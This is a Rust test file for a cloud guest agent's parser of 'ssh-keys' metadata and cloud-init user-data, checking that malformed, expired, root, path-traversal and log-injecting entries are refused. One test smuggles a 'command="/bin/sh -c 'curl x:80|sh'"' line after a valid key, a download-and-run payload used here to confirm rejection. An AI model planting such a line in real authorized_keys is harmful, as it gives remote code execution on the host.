//! Tests of `ssh-keys` parsing and of what a snapshot asks for.

use super::*;
use crate::accounts::test_keys::*;
use ssh_key::Mpint;
use ssh_key::public::{Ed25519PublicKey, RsaPublicKey, SkEd25519};

/// 2026-01-01T00:00:00Z.
const NOW: i64 = 1_767_225_600;

fn parse(text: &str) -> (Vec<MetadataKey>, Vec<Rejected>) {
    parse_ssh_keys(text, Source::Instance, NOW, false)
}

fn one_rejection(text: &str) -> Rejected {
    let (keys, rejected) = parse(text);
    assert!(keys.is_empty(), "{text:?} gave keys {keys:?}");
    assert_eq!(rejected.len(), 1, "{text:?}: {rejected:?}");
    rejected.into_iter().next().unwrap()
}

fn sk_key() -> String {
    let data = KeyData::SkEd25519(SkEd25519::new(Ed25519PublicKey([7; 32]), "ssh:"));
    PublicKey::from(data).to_openssh().unwrap()
}

#[test]
fn accepts_each_user_key_type() {
    let sk = sk_key();
    for key in [A, R, E256, E384, E521, sk.as_str()] {
        let (keys, rejected) = parse(&format!("alice:{key}"));
        assert!(rejected.is_empty(), "{key}: {rejected:?}");
        assert_eq!(keys.len(), 1);
        assert_eq!(keys[0].user, "alice");
        assert_eq!(keys[0].line, key);
        assert_eq!(keys[0].source, Source::Instance);
        assert_eq!(keys[0].expires_unix, None);
        assert!(keys[0].fingerprint.starts_with("SHA256:"));
    }
}

#[test]
fn fingerprints_match_ssh_keygen() {
    let (keys, _) = parse(&format!("alice:{A} a@test\nbob:{R}\ncarol:{B}"));
    let fps: Vec<&str> = keys.iter().map(|k| k.fingerprint.as_str()).collect();
    assert_eq!(fps, [A_FP, R_FP, B_FP]);
}

#[test]
fn line_is_rebuilt_with_options_and_comment() {
    let text = format!("bob:from=\"127.0.0.1\",no-pty \t{R}   bob@laptop  with spaces \r\n");
    let (keys, rejected) = parse(&text);
    assert!(rejected.is_empty(), "{rejected:?}");
    assert_eq!(
        keys[0].line,
        format!("from=\"127.0.0.1\",no-pty {R} bob@laptop  with spaces")
    );
}

#[test]
fn options_with_quoted_blanks_and_escaped_quotes() {
    let opts = r#"command="echo \"hi there\"; logger 'a b'",from="10.0.0.1, 10.0.0.2",NO-PTY,environment="A=b c""#;
    let (keys, rejected) = parse(&format!("alice:{opts} {A} alice@example"));
    assert!(rejected.is_empty(), "{rejected:?}");
    assert_eq!(keys[0].line, format!("{opts} {A} alice@example"));
}

#[test]
fn bad_options_are_refused() {
    for (opts, why) in [
        (r#"command="echo hi"#, "unterminated quote"),
        (r#"command="echo \"hi"#, "unterminated quote"),
        ("no-pty,,no-user-rc", "malformed options"),
        ("no-pty,", "malformed options"),
        ("command=echo", "needs a double-quoted value"),
        ("from", "needs a value"),
        (r#"no-pty="x""#, "takes no value"),
        ("evil-option", "unknown option `evil-option`"),
        (r#"from="a"x"#, "expected `,`"),
    ] {
        let r = one_rejection(&format!("alice:{opts} {A}"));
        assert!(r.reason.contains(why), "{opts}: {}", r.reason);
        assert_eq!(r.user.as_deref(), Some("alice"));
    }
}

#[test]
fn blank_and_comment_lines_are_skipped_silently() {
    let text = format!("\n  \n# a comment\n\t# indented comment\r\nalice:{A}\n\n");
    let (keys, rejected) = parse(&text);
    assert_eq!(keys.len(), 1);
    assert!(rejected.is_empty());
}

#[test]
fn the_bad_lines_of_the_issue_are_each_refused_and_the_good_ones_apply() {
    let long = format!("dave:{A} {}", "x".repeat(100 * 1024));
    let text = [
        format!("alice:{A} alice@example"),                   // 1
        format!("../x:{B}"),                                  // 2
        format!("root:{B}"),                                  // 3
        format!("bob:{B} bob@host"),                          // 4: the key, then a newline
        format!("command=\"/bin/sh -c 'curl x:80|sh'\" {C}"), // 5: ... smuggled after it
        long,                                                 // 6
        "carol:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA!!notbase64".into(), // 7
        format!("erin:ssh-foo {}", &A[12..]),                 // 8
        format!("frank:{R} frank@host"),                      // 9
    ]
    .join("\n");
    let (keys, rejected) = parse(&text);
    let users: Vec<&str> = keys.iter().map(|k| k.user.as_str()).collect();
    assert_eq!(users, ["alice", "bob", "frank"]);
    let lines: Vec<usize> = rejected.iter().map(|r| r.line).collect();
    assert_eq!(lines, [2, 3, 5, 6, 7, 8]);
    let r = |line| rejected.iter().find(|r| r.line == line).unwrap();
    assert!(r(2).reason.contains("invalid user name"));
    assert_eq!(r(2).user.as_deref(), Some("../x"));
    assert!(r(3).reason.contains("root is refused"));
    assert!(r(5).reason.contains("invalid user name"), "{}", r(5).reason);
    assert!(
        r(6).reason
            .contains(&format!("{} bytes", 100 * 1024 + 6 + A.len()))
    );
    assert!(r(6).reason.contains("8192"));
    assert_eq!(r(6).user.as_deref(), Some("dave"));
    assert!(
        r(7).reason.contains("not a valid ssh-ed25519 key"),
        "{}",
        r(7).reason
    );
    assert_eq!(r(7).key_type.as_deref(), Some("ssh-ed25519"));
    assert!(
        r(8).reason.contains("unknown key type `ssh-foo`"),
        "{}",
        r(8).reason
    );
    assert_eq!(
        r(7).to_string(),
        "instance ssh-keys line 7 (user `carol`) (ssh-ed25519): \
         key data is not a valid ssh-ed25519 key: character encoding invalid"
    );
    // What is logged is short and carries no key material: at most the (cut) user name part.
    for rej in &rejected {
        let shown = rej.to_string();
        assert!(shown.len() < 200, "{shown}");
        assert!(!shown.contains("AAAA"), "{shown}");
        assert!(!shown.contains("80|sh"), "{shown}");
    }
}

#[test]
fn root_only_when_allowed() {
    let text = format!("root:{A}");
    assert!(parse(&text).0.is_empty());
    let (keys, rejected) = parse_ssh_keys(&text, Source::Project, NOW, true);
    assert!(rejected.is_empty());
    assert_eq!(keys[0].user, "root");
    assert_eq!(keys[0].source, Source::Project);
}

#[test]
fn invalid_names_are_escaped_and_cut_in_the_report() {
    let r = one_rejection(&format!("Alice\u{7f}{}:{A}", "y".repeat(60)));
    assert!(
        r.reason.contains("control character U+007F"),
        "{}",
        r.reason
    );
    assert_eq!(r.user, None);
    let r = one_rejection(&format!("{}:{A}", "Z".repeat(60)));
    assert_eq!(r.user.unwrap(), format!("{}…", "Z".repeat(32)));
    let r = one_rejection(&format!("bad\"name:{A}"));
    assert_eq!(r.user.unwrap(), "bad\\\"name");
}

#[test]
fn control_characters_are_refused() {
    for (c, name) in [
        ('\0', "NUL"),
        ('\r', "CR"),
        ('\u{1b}', "U+001B"),
        ('\u{85}', "U+0085"),
    ] {
        let r = one_rejection(&format!("alice:{A} com{c}ment"));
        assert!(r.reason.contains(name), "{:?}: {}", c, r.reason);
        assert_eq!(r.user.as_deref(), Some("alice"));
    }
    // A tab is a separator, not a control character.
    let (keys, _) = parse(&format!("alice:{}\t{}", &A[..11], &A[12..]));
    assert_eq!(keys.len(), 1);
}

#[test]
fn a_line_without_a_user_is_refused() {
    let r = one_rejection(A);
    assert!(r.reason.contains("USERNAME:"), "{}", r.reason);
    assert_eq!(r.user, None);
}

#[test]
fn certificates_dsa_and_mismatched_types_are_refused() {
    let r = one_rejection(&format!("alice:{A_CERT}"));
    assert!(r.reason.contains("certificate"), "{}", r.reason);
    assert_eq!(
        r.key_type.as_deref(),
        Some("ssh-ed25519-cert-v01@openssh.com")
    );
    let r = one_rejection("alice:ssh-dss AAAAB3NzaC1kc3MAAACBAP");
    assert!(r.reason.contains("DSA"), "{}", r.reason);
    // An ed25519 blob labelled ssh-rsa.
    let r = one_rejection(&format!("alice:ssh-rsa {}", &A[12..]));
    assert!(r.reason.contains("not a valid ssh-rsa key"), "{}", r.reason);
    // Trailing bytes after the blob, and a truncated blob.
    let r = one_rejection(&format!("alice:{R}AAAA"));
    assert!(r.reason.contains("not a valid ssh-rsa key"), "{}", r.reason);
    let r = one_rejection(&format!("alice:{}", &A[..A.len() - 8]));
    assert!(r.reason.contains("not a valid"), "{}", r.reason);
    let r = one_rejection("alice:ssh-ed25519");
    assert!(r.reason.contains("no key data"), "{}", r.reason);
    let r = one_rejection("alice:");
    assert!(r.reason.contains("no key"), "{}", r.reason);
}

#[test]
fn short_rsa_keys_are_refused() {
    let rsa = |bytes: usize| {
        let data = KeyData::Rsa(RsaPublicKey {
            e: Mpint::from_positive_bytes(&[1, 0, 1]).unwrap(),
            n: Mpint::from_positive_bytes(&vec![0x5a; bytes]).unwrap(),
        });
        PublicKey::from(data).to_openssh().unwrap()
    };
    // 0x5a has its top bit clear: 96 bytes are 767 bits, 129 bytes are 1031.
    let r = one_rejection(&format!("alice:{}", rsa(96)));
    assert_eq!(
        r.reason,
        "RSA key of 767 bits is too short (sshd needs 1024)"
    );
    let (keys, rejected) = parse(&format!("alice:{}", rsa(129)));
    assert_eq!((keys.len(), rejected.len()), (1, 0));
}

#[test]
fn expiring_keys_in_both_forms() {
    let text = [
        format!(r#"alice:{A} google-ssh {{"userName":"alice@example.com","expireOn":"2026-12-04T20:12:00+0000"}}"#),
        format!(r#"bob:{B} google-ssh {{"userName":"bob@example.com","expireOn":"2026-12-04T20:12:00Z"}}"#),
        format!(r#"carol:{C} google-ssh {{"userName":"c@example.com","expireOn":"2026-01-01T03:00:00+03:00"}}"#),
        format!(r#"dave:{R} google-ssh {{"userName":"d@example.com","expireOn":"2025-12-31T23:59:59+0000"}}"#),
        format!(r#"erin:{E256} google-ssh {{"userName":"e@example.com","expireOn":"next tuesday"}}"#),
        format!(r#"frank:{E384} google-ssh {{"userName":"f@example.com"}}"#),
        format!(r#"gina:{E521} google-ssh {{"userName":"#),
        format!(r#"hank:{A} google-ssh {{"expireOn":1796415120}}"#),
        format!("ivy:{A} google-ssh"),
        format!("jack:{A} google-ssh [1]"),
    ]
    .join("\n");
    let (keys, rejected) = parse(&text);
    let got: Vec<(&str, Option<i64>)> = keys
        .iter()
        .map(|k| (k.user.as_str(), k.expires_unix))
        .collect();
    assert_eq!(
        got,
        [
            ("alice", Some(1_796_415_120)),
            ("bob", Some(1_796_415_120)),
            ("frank", None),
        ]
    );
    let reasons: Vec<(usize, &str)> = rejected
        .iter()
        .map(|r| (r.line, r.reason.as_str()))
        .collect();
    assert_eq!(
        reasons[0],
        (3, "expired"),
        "expiry at the very second is expired"
    );
    assert_eq!(reasons[1], (4, "expired"));
    assert_eq!(reasons[2].0, 5);
    assert!(reasons[2].1.contains("expireOn is not a timestamp"));
    assert_eq!(reasons[3].0, 7);
    assert!(reasons[3].1.contains("not valid JSON"));
    assert_eq!(reasons[4].0, 8);
    assert!(reasons[4].1.contains("expireOn is not a string"));
    // The marker alone: the expiry was meant and is missing, so the key is dropped (Google's
    // agent: "expiration missing"), naming the user; it used to be kept as never expiring.
    assert_eq!(reasons[5].0, 9);
    assert!(
        reasons[5].1.contains("no expiry JSON after the marker"),
        "{}",
        reasons[5].1
    );
    assert_eq!(rejected[5].user.as_deref(), Some("ivy"));
    assert_eq!(reasons[6].0, 10);
    assert!(reasons[6].1.contains("not a JSON object"));
    assert_eq!(rejected.len(), 7);
    // The comment stays on the written line.
    assert!(
        keys[0]
            .line
            .ends_with(r#""expireOn":"2026-12-04T20:12:00+0000"}"#)
    );
}

/// `USER:KEY google-ssh` with nothing after the marker was kept as a key that never expires,
/// while `google-ssh {garbage}` was dropped: an expiry lost on the way (a truncated line, a
/// tool that wrote the marker only) made a temporary key permanent. Dropped now, as Google's
/// agent drops it, with a reason naming the user and the missing JSON.
#[test]
fn the_google_ssh_marker_without_json_is_dropped() {
    for tail in [" google-ssh", " google-ssh \t ", "\tgoogle-ssh"] {
        let r = one_rejection(&format!("ivy:{A}{tail}"));
        assert_eq!(r.user.as_deref(), Some("ivy"), "{tail:?}");
        let shown = r.to_string();
        assert!(
            shown.contains("(user `ivy`)") && shown.contains("no expiry JSON after the marker"),
            "{tail:?}: {shown}"
        );
    }
    // Not the marker: comments that merely start like it set no expiry and are kept.
    for comment in ["google-sshx", "my google-ssh", "google-ssh-key"] {
        let (keys, rejected) = parse(&format!("ivy:{A} {comment}"));
        assert_eq!((keys.len(), rejected.len()), (1, 0), "{comment:?}");
        assert_eq!(keys[0].expires_unix, None);
    }
}

#[test]
fn split_entry_and_identity() {
    let text = format!(r#"from="a b",no-pty {A} c d"#);
    let e = split_entry(&text).unwrap();
    assert_eq!(e.options, Some(r#"from="a b",no-pty"#));
    assert_eq!(e.key_type, "ssh-ed25519");
    assert_eq!(e.comment, "c d");
    assert_eq!(key_identity(&format!("{A} x\r")), A.split_once(' '));
    assert_eq!(key_identity(&format!("restrict {A}")), A.split_once(' '));
    assert_eq!(key_identity("# Added by Google"), None);
    assert_eq!(key_identity(&format!("# {A}")), None);
    assert_eq!(key_identity(""), None);
    assert_eq!(key_identity("garbage words here"), None);
}

fn snapshot(instance: &[(&str, &str)], project: &[(&str, &str)]) -> Snapshot {
    let mut s = Snapshot::default();
    for (k, v) in instance {
        s.instance.attributes.insert((*k).into(), (*v).into());
    }
    for (k, v) in project {
        s.project.attributes.insert((*k).into(), (*v).into());
    }
    s
}

fn users(d: &Desired) -> Vec<(&str, usize)> {
    d.keys.iter().map(|(u, k)| (u.as_str(), k.len())).collect()
}

#[test]
fn instance_and_project_keys_combine() {
    let s = snapshot(
        &[("ssh-keys", &format!("alice:{A}"))],
        &[("ssh-keys", &format!("bob:{B}\nalice:{C}"))],
    );
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("alice", 2), ("bob", 1)]);
    assert_eq!(d.keys["alice"][0].source, Source::Instance);
    assert_eq!(d.keys["alice"][1].source, Source::Project);
    assert_eq!(d.sudo.iter().collect::<Vec<_>>(), ["alice", "bob"]);
    assert!(d.rejected.is_empty());
    assert_eq!(d.next_expiry_unix, None);
}

#[test]
fn project_keys_are_blocked_by_the_flag_instance_over_project() {
    let inst = format!("alice:{A}");
    let proj = format!("bob:{B}");
    for (inst_flag, proj_flag, blocked) in [
        (Some("true"), None, true),
        (Some("TRUE"), Some("false"), true),
        (None, Some("yes"), true),
        (Some("false"), Some("true"), false),
        (Some("bogus"), Some("true"), true),
        (None, None, false),
    ] {
        let mut i = vec![("ssh-keys", inst.as_str())];
        let mut p = vec![("ssh-keys", proj.as_str())];
        i.extend(inst_flag.map(|f| ("block-project-ssh-keys", f)));
        p.extend(proj_flag.map(|f| ("block-project-ssh-keys", f)));
        let d = desired_keys(&snapshot(&i, &p), NOW, false);
        assert_eq!(
            !d.keys.contains_key("bob"),
            blocked,
            "{inst_flag:?} {proj_flag:?}"
        );
        assert!(d.keys.contains_key("alice"));
    }
}

#[test]
fn legacy_ssh_keys_counts_as_instance_keys_and_blocks_the_project() {
    let s = snapshot(
        &[
            ("sshKeys", &format!("carol:{C}\n../bad:{A}")),
            ("ssh-keys", &format!("alice:{A}")),
        ],
        &[("ssh-keys", &format!("bob:{B}"))],
    );
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("alice", 1), ("carol", 1)]);
    assert_eq!(d.keys["carol"][0].source, Source::Instance);
    assert_eq!(d.rejected.len(), 1);
    assert_eq!(d.rejected[0].attribute, "sshKeys");
    assert_eq!(d.rejected[0].line, 2);
    // Even empty, it blocks.
    let s = snapshot(&[("sshKeys", "")], &[("ssh-keys", &format!("bob:{B}"))]);
    assert!(desired_keys(&s, NOW, false).keys.is_empty());
    // A project-level legacy attribute is read as project keys.
    let s = snapshot(&[], &[("sshKeys", &format!("bob:{B}"))]);
    let d = desired_keys(&s, NOW, false);
    assert_eq!(d.keys["bob"][0].source, Source::Project);
}

#[test]
fn a_key_is_kept_once_per_user_first_occurrence_wins() {
    let s = snapshot(
        &[(
            "ssh-keys",
            &format!("alice:{A} first\nalice:no-pty {A} again\nbob:{A}"),
        )],
        &[("ssh-keys", &format!("alice:{A} project"))],
    );
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("alice", 1), ("bob", 1)]);
    assert_eq!(d.keys["alice"][0].line, format!("{A} first"));
    assert_eq!(d.lines()["alice"], [format!("{A} first")]);
    assert_eq!(d.lines()["bob"], [A]);
    assert!(d.rejected.is_empty(), "a duplicate is not an error");
}

#[test]
fn next_expiry_is_the_earliest_kept_one() {
    let exp = |user: &str, key: &str, at: &str| {
        format!(r#"{user}:{key} google-ssh {{"userName":"x@y","expireOn":"{at}"}}"#)
    };
    let text = [
        exp("alice", A, "2026-06-01T00:00:00Z"),
        exp("bob", B, "2026-03-01T00:00:00Z"),
        exp("carol", C, "2025-01-01T00:00:00Z"),
        format!("dave:{R}"),
    ]
    .join("\n");
    let d = desired_keys(&snapshot(&[("ssh-keys", &text)], &[]), NOW, false);
    assert_eq!(users(&d), [("alice", 1), ("bob", 1), ("dave", 1)]);
    assert_eq!(d.next_expiry_unix, parse_timestamp("2026-03-01T00:00:00Z"));
    assert_eq!(d.rejected[0].reason, "expired");
}

#[test]
fn cloud_init_users_join_with_their_sudo_and_groups() {
    let user_data = format!(
        "#cloud-config
users:
  - default
  - name: yc-user
    sudo: ALL=(ALL) NOPASSWD:ALL
    groups: docker, adm
    shell: /bin/bash
    ssh_authorized_keys:
      - {A} yc@laptop
      - not a key
  - name: alice
    sudo: false
    groups: [Bad Group, video]
    ssh-authorized-keys:
      - {B}
  - name: nokeys
    sudo: ALL=(ALL) NOPASSWD:ALL
  - name: root
    ssh_authorized_keys: [{C}]
"
    );
    let s = snapshot(
        &[
            ("ssh-keys", &format!("alice:{C}")),
            ("user-data", &user_data),
        ],
        &[],
    );
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("alice", 2), ("yc-user", 1)]);
    assert_eq!(d.keys["yc-user"][0].source, Source::UserData);
    assert_eq!(d.keys["yc-user"][0].line, format!("{A} yc@laptop"));
    // alice has sudo from ssh-keys even though user-data says false.
    assert_eq!(d.sudo.iter().collect::<Vec<_>>(), ["alice", "yc-user"]);
    assert_eq!(
        d.groups["yc-user"].iter().collect::<Vec<_>>(),
        ["adm", "docker"]
    );
    assert_eq!(d.groups["alice"].iter().collect::<Vec<_>>(), ["video"]);
    let got: Vec<(usize, Option<&str>, &str)> = d
        .rejected
        .iter()
        .map(|r| (r.line, r.user.as_deref(), r.reason.as_str()))
        .collect();
    assert_eq!(got.len(), 4, "{got:?}");
    // `- default` is skipped with its index and line (reported once by the reconciler), and
    // the users after it are read.
    assert_eq!((got[0].0, got[0].1), (3, None));
    assert!(got[0].2.starts_with("users[0] is `default`"), "{got:?}");
    let got = &got[1..];
    assert_eq!(got[0].0, 10);
    assert!(got[0].2.contains("unknown key type `not`"), "{got:?}");
    assert_eq!((got[1].0, got[1].1), (11, Some("alice")));
    assert!(got[1].2.contains("invalid group name `Bad Group`"));
    assert_eq!((got[2].0, got[2].1), (19, Some("root")));
    assert!(d.rejected.iter().all(|r| r.source == Source::UserData));
    assert_eq!(d.user_data_error, None);
}

/// A `- snapuser:` entry (no `name`) used to make the whole user-data unreadable: no
/// cloud-init user got keys. Now only that entry is skipped (one rejection naming its index and
/// line) and the user after it gets its key.
#[test]
fn an_entry_without_a_name_costs_only_itself() {
    let user_data = format!(
        "#cloud-config\nusers:\n  - snapuser: joe@example.com\n  - name: yc-user\n    ssh_authorized_keys: [{A}]\n"
    );
    let s = snapshot(&[("user-data", &user_data)], &[]);
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("yc-user", 1)]);
    assert_eq!(d.user_data_error, None);
    assert_eq!(d.rejected.len(), 1, "{:?}", d.rejected);
    assert_eq!(
        d.rejected[0].to_string(),
        "user-data line 3: users[0] (line 3) has no `name` (a mapping of `snapuser`:...); entry skipped"
    );
}

#[test]
fn broken_or_foreign_user_data() {
    let s = snapshot(
        &[
            ("ssh-keys", &format!("alice:{A}")),
            ("user-data", "#cloud-config\nusers:\n  - name: [x\n"),
        ],
        &[],
    );
    let d = desired_keys(&s, NOW, false);
    assert_eq!(users(&d), [("alice", 1)]);
    let err = d.user_data_error.as_deref().unwrap();
    assert!(err.contains("bad YAML at line"), "{err}");
    assert_eq!(d.rejected[0].line, 0);
    assert_eq!(d.rejected[0].to_string(), err);

    let s = snapshot(&[("user-data", "#!/bin/sh\necho hi\n")], &[]);
    assert_eq!(desired_keys(&s, NOW, false), Desired::default());
}

/// Found by the `ssh_keys` fuzz target: the key decoder's error quoted bytes of the key data
/// (here an ECDSA curve label holding a newline and a NUL) into the reason, so a refused line
/// could put a control character, or a forged second line, into the log.
#[test]
fn key_data_errors_are_escaped_in_the_reason() {
    use base64::Engine as _;
    let string = |s: &[u8]| [&(s.len() as u32).to_be_bytes()[..], s].concat();
    let blob = [
        string(b"ecdsa-sha2-nistp256"),
        string(b"nist\nalice:\0"),
        string(&[4; 65]),
    ]
    .concat();
    let b64 = base64::engine::general_purpose::STANDARD.encode(blob);
    let r = one_rejection(&format!("alice:ecdsa-sha2-nistp256 {b64}"));
    assert!(
        r.reason
            .starts_with("key data is not a valid ecdsa-sha2-nistp256 key"),
        "{}",
        r.reason
    );
    let shown = r.to_string();
    assert!(!shown.chars().any(char::is_control), "{shown:?}");
}
